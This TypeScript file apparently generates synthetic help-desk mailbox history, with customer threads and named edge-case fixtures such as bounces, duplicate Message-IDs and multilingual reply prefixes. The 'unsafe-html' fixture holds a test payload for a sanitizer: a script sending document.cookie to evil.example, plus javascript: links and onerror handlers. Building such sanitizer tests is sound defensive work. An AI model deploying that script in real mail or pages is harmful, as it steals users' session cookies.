// A tenant's support mailbox history: customer threads answered by agents from the shared mailbox,
// and the mail that breaks naive help desks, each recorded as a named fixture (README "Mail world").
import type { Random } from "../../core/random.ts";
import { bodyInner, replyContent } from "../compose.ts";
import { newContent } from "../content.ts";
import { escapeHtml } from "../html.ts";
import type { MessageContent } from "../model.ts";
import { prefixesFor } from "../prefixes.ts";
import { customer, type Party } from "./people.ts";
import { textsFor } from "./texts.ts";
import { addr, htmlBody, type MailWriter, type Sent } from "./writer.ts";
import { bounce, newsletter, outOfOffice, PDF_BYTES, PNG_BYTES } from "./special-mail.ts";

const HOUR = 3_600_000;

export interface DeskContext {
  w: MailWriter;
  random: Random;
  support: Party;
  agents: Party[];
  /** People of other emulated tenants who write in now and then. */
  neighbours: Party[];
  tenantId: string;
  locale: string;
  /** History runs from here to `end` (both before the world epoch). */
  start: number;
  end: number;
}

export class HelpDesk {
  constructor(private readonly d: DeskContext) {}

  /** `threads` ordinary customer threads plus one of each fixture. */
  generate(threads: number): void {
    const { random } = this.d;
    const span = this.d.end - this.d.start;
    for (let i = 0; i < threads; i++) {
      const at = this.d.start + Math.floor((span * i) / Math.max(1, threads)) + random.int(0, 6) * HOUR;
      this.conversation(customer(random, this.d.locale), at, i === 0 ? "customer-thread" : undefined);
    }
    this.#fixtures();
  }

  fill(text: string, name: string): string {
    return text.replaceAll("{n}", String(this.d.random.int(10000, 99999))).replaceAll("{name}", name);
  }

  request(
    from: Party,
    subject: string,
    at: number,
    fixture?: string,
    extra: Partial<MessageContent> = {},
  ): Sent {
    const t = textsFor(from.locale);
    const body = htmlBody([
      escapeHtml(t.greeting.replace("{name}", "")).replace(/ ,/, ","),
      escapeHtml(this.fill(this.d.random.pick(t.requests), "")),
      escapeHtml(t.closing),
      escapeHtml(from.name),
    ]);
    return this.d.w.send(
      from,
      [this.d.support],
      newContent({ subject, body, to: [addr(this.d.support)], ...extra }),
      at,
      {
        fixture: fixture ? this.#tag(fixture) : undefined,
      },
    );
  }

  /** The agent answers from the shared mailbox (Outlook in the tenant's language). */
  answer(parent: Sent, to: Party, at: number, fixture?: string): Sent {
    const t = textsFor(this.d.locale);
    const agent = this.d.random.pick(this.d.agents);
    const body = htmlBody([
      escapeHtml(t.greeting.replace("{name}", to.name.split(" ")[0])),
      escapeHtml(this.fill(this.d.random.pick(t.answers), "")),
      escapeHtml(t.closing),
      `${escapeHtml(agent.name)}<br>${escapeHtml(this.d.support.name)}`,
    ]);
    const received = parent.copies.find((c) => c.mailbox === this.d.support.mailbox) ?? parent.content;
    const content = replyContent({
      parent: received,
      parentAt: parent.at,
      author: addr(this.d.support),
      kind: "reply",
      prefix: prefixesFor(this.d.locale).reply[0],
      html: bodyInner(body),
      at,
    });
    content.to = [addr(to)];
    return this.d.w.send(this.d.support, [to], content, at, {
      fixture: fixture ? this.#tag(fixture) : undefined,
    });
  }

  /** The customer replies with their own client's prefix. */
  followUp(
    parent: Sent,
    from: Party,
    at: number,
    o: { fixture?: string; text?: string; prefix?: string; subject?: string } = {},
  ): Sent {
    const t = textsFor(from.locale);
    const p = prefixesFor(from.locale);
    const prefix = o.prefix ??
      (from.client === "outlook" ? p.reply[0] : from.client === "gmail" ? "Re: " : p.reply[1]);
    const content = replyContent({
      parent: parent.content,
      parentAt: parent.at,
      author: addr(from),
      kind: prefix === p.forward[0] || /^(WG|TR|RV|Fwd|FW|Doorst|ENC|VB) ?:/.test(prefix)
        ? "forward"
        : "reply",
      prefix,
      to: [addr(this.d.support)],
      html: `<div>${escapeHtml(this.fill(o.text ?? this.d.random.pick(t.followUps), ""))}</div><div>${
        escapeHtml(from.name)
      }</div>`,
      at,
    });
    content.to = [addr(this.d.support)];
    content.cc = [];
    if (o.subject) content.subject = o.subject;
    return this.d.w.send(from, [this.d.support], content, at, {
      fixture: o.fixture ? this.#tag(o.fixture) : undefined,
    });
  }

  conversation(who: Party, at: number, fixture?: string): void {
    const { random } = this.d;
    const t = textsFor(who.locale);
    let t0 = at;
    const step = () => (t0 += random.int(1, 20) * HOUR);
    const first = this.request(who, this.fill(random.pick(t.subjects), ""), t0, fixture);
    const answer = this.answer(first, who, step(), fixture);
    if (!random.chance(0.65)) return;
    const again = this.followUp(answer, who, step(), { fixture });
    if (random.chance(0.5)) {
      this.followUp(this.answer(again, who, step(), fixture), who, step(), {
        fixture,
        text: random.pick(t.thanks),
      });
    }
  }

  #tag(name: string): [string, string, string] {
    return [name, this.d.support.address, this.d.tenantId];
  }

  #fixtures(): void {
    const { random, w } = this.d;
    const at = (daysBeforeEnd: number) => this.d.end - daysBeforeEnd * 24 * HOUR + random.int(0, 8) * HOUR;
    const t = textsFor(this.d.locale);

    // Prefixes from clients in several languages within one thread.
    const nordic: Party = { ...customer(random, "sv-SE"), locale: "sv-SE", client: "outlook" };
    const base = this.fill(t.subjects[0], "");
    let last = this.request(nordic, base, at(20), "localized-prefixes");
    let when = last.at;
    for (const prefix of ["SV: ", "Antw: ", "RE[2]: ", "AW: ", "RE : ", "WG: ", "TR : ", "RV: "]) {
      const answer = this.answer(last, nordic, when += 3 * HOUR, "localized-prefixes");
      last = this.followUp(answer, nordic, when += 5 * HOUR, {
        fixture: "localized-prefixes",
        prefix,
        subject: `${prefix}${base}`,
      });
    }

    // The customer answers in the thread but starts a new topic.
    const changer = customer(random, this.d.locale);
    const first = this.request(changer, this.fill(t.subjects[1], ""), at(15), "subject-changed");
    const reply = this.answer(first, changer, first.at + 4 * HOUR, "subject-changed");
    this.followUp(reply, changer, reply.at + 20 * HOUR, {
      fixture: "subject-changed",
      subject: this.fill(t.newTopic, ""),
    });

    // A reply to a message the help desk never received (a colleague's mail it was not copied on).
    const stranger = { ...customer(random, this.d.locale), client: "outlook" as const };
    const domain = stranger.address.split("@")[1];
    const root = `<${random.uuid().toUpperCase()}@${domain}>`;
    const parentId = `<${random.uuid().toUpperCase()}@${domain}>`;
    this.request(
      stranger,
      `${prefixesFor(stranger.locale).reply[0]}Delivery schedule week ${random.int(2, 50)}`,
      at(12),
      "unknown-parent",
      {
        inReplyTo: parentId,
        references: [root, parentId],
      },
    );

    // The same generic subject from unrelated customers: Exchange gives them one conversationId.
    for (const subject of t.generic.slice(0, 2)) {
      this.request(customer(random, this.d.locale), subject, at(11), "same-subject");
      this.request(customer(random, this.d.locale), subject, at(9), "same-subject");
    }

    // An agent's answer meets an out-of-office reply.
    const away: Party = { ...customer(random, this.d.locale), client: "outlook" };
    const asked = this.request(away, this.fill(t.subjects[2], ""), at(10), "out-of-office");
    const answered = this.answer(asked, away, asked.at + 2 * HOUR, "out-of-office");
    w.send(away, [this.d.support], outOfOffice(answered, away, this.d.support), answered.at + 60_000, {
      fixture: this.#tag("out-of-office"),
    });

    // Bounces: Exchange's own NDR (original attached as message/rfc822) and a remote MTA's
    // (original headers as text/rfc822-headers).
    const gone = customer(random, this.d.locale);
    const lost = this.request(gone, this.fill(t.subjects[3], ""), at(8), "bounce");
    const undeliverable = this.answer(lost, gone, lost.at + 3 * HOUR, "bounce");
    const tenant = this.d.support.mailbox!.tenant.profile;
    const ndr = bounce(undeliverable, "exchange", tenant.initialDomain, this.d.locale);
    w.send(ndr.from, [this.d.support], ndr.content, undeliverable.at + 30_000, {
      fixture: this.#tag("bounce"),
    });
    const remote = bounce(undeliverable, "remote", gone.address.split("@")[1], "en-US");
    w.send(remote.from, [this.d.support], remote.content, undeliverable.at + 90_000, {
      fixture: this.#tag("bounce"),
    });

    // A newsletter with bulk headers and a tracking pixel.
    const news = newsletter(random, this.d.support);
    w.send(news.from, [this.d.support], news.content, at(7), {
      inferenceClassification: "other",
      fixture: this.#tag("newsletter"),
    });

    // One message to the shared mailbox and an agent: the same Message-ID in two mailboxes.
    const both = customer(random, this.d.locale);
    const agent = this.d.agents[0];
    const dup = newContent({
      subject: this.fill(t.subjects[4], ""),
      body: htmlBody([escapeHtml(this.fill(t.requests[0], "")), escapeHtml(both.name)]),
      to: [addr(this.d.support)],
      cc: [addr(agent)],
    });
    w.send(both, [this.d.support, agent], dup, at(6), { fixture: this.#tag("duplicate-delivery") });

    // A notifier that reuses one Message-ID for different mails.
    const notifier: Party = {
      name: "Parcel Notifications",
      address: "noreply@parcel-notify.example",
      locale: "en-US",
      client: "other",
      mailbox: null,
    };
    const reused = `<notification.${random.int(100000, 999999)}@parcel-notify.example>`;
    for (const [i, status] of ["is on its way", "has been delivered"].entries()) {
      w.send(
        notifier,
        [this.d.support],
        newContent({
          subject: `Your parcel ${status}`,
          body: htmlBody([`Parcel ${random.int(100000000, 999999999)} ${status}.`]),
          to: [addr(this.d.support)],
          internetMessageId: reused,
          extraHeaders: [{ name: "Auto-Submitted", value: "auto-generated" }],
        }),
        at(5) + i * 6 * HOUR,
        { fixture: this.#tag("reused-message-id") },
      );
    }

    // HTML a sanitizer must clean, and attachments (inline image + file).
    const html = customer(random, this.d.locale);
    this.request(html, this.fill(t.subjects[5], ""), at(4), "unsafe-html", {
      body: {
        contentType: "html",
        content:
          `<html><head><script>document.location='https://evil.example/?c='+document.cookie</script></head><body><p onclick="steal()">${
            escapeHtml(this.fill(t.requests[1], ""))
          }</p><p><a href="javascript:alert(1)">Open invoice</a></p><img src="https://track.example/open.gif?u=${
            random.int(1000, 9999)
          }" width="1" height="1" alt=""><img src="x" onerror="alert(2)"></body></html>`,
      },
    });
    const files = customer(random, this.d.locale);
    this.request(files, this.fill(t.subjects[3], ""), at(3), "attachments", {
      body: htmlBody([
        escapeHtml(this.fill(t.requests[3], "")),
        '<img src="cid:photo001@customer" alt="photo">',
      ]),
      attachments: [
        {
          kind: "file",
          name: "photo.png",
          contentType: "image/png",
          isInline: true,
          lastModified: at(3),
          bytes: PNG_BYTES,
          contentId: "photo001@customer",
        },
        {
          kind: "file",
          name: "invoice.pdf",
          contentType: "application/pdf",
          isInline: false,
          lastModified: at(3),
          bytes: PDF_BYTES,
          contentId: null,
        },
      ],
    });

    // Someone at another emulated tenant writes in: the thread exists in both tenants' mailboxes.
    const neighbour = this.d.neighbours[0];
    if (neighbour) this.conversation(neighbour, at(2), "cross-tenant");
  }
}
